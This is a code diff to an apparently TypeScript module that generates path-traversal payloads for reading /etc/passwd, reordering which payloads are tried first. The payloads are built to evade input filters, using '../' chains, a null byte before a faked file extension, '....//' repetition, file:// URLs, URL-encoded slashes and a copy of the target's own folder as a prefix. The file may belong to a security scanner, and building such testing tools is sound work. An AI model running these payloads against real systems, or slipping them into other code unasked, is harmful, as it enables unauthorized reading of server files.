@@ -6,8 +6,8 @@ const endingOf = (usual: string) => /(\.[a-z0-9]{1,5})$/i.exec(usual)?.[1] ?? ''
 /** The folder in front of the usual value, to satisfy filters that look at its beginning. */
 const folderOf = (usual: string) => /^(.{1,200}\/)[^/]*$/.exec(usual)?.[1] ?? '';
 
-/** The two that find most, for any input at all. */
-export const common: readonly string[] = [`${up}etc/passwd`, '/etc/passwd'];
+/** The one that finds most, for any input at all: a full path by itself, and a way up behind a folder. */
+export const common: readonly string[] = [`/${up}etc/passwd`];
 
 /** Ways around filters, for inputs that look as if they named a file; the likeliest first. */
 export function thorough(usual: string): string[] {
@@ -15,10 +15,11 @@ export function thorough(usual: string): string[] {
   const folder = folderOf(usual);
   const name = usual.replace(/\.[a-z0-9]{1,5}$/i, '').slice(0, 100) || 'index';
   return [
+    `${up}etc/passwd`,
+    '/etc/passwd',
     ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
     `${up}etc/passwd\0${ending}`,
     ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
-    `/${up}etc/passwd`,
     `${'....//'.repeat(10)}etc/passwd`,
     'file:///etc/passwd',
     `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
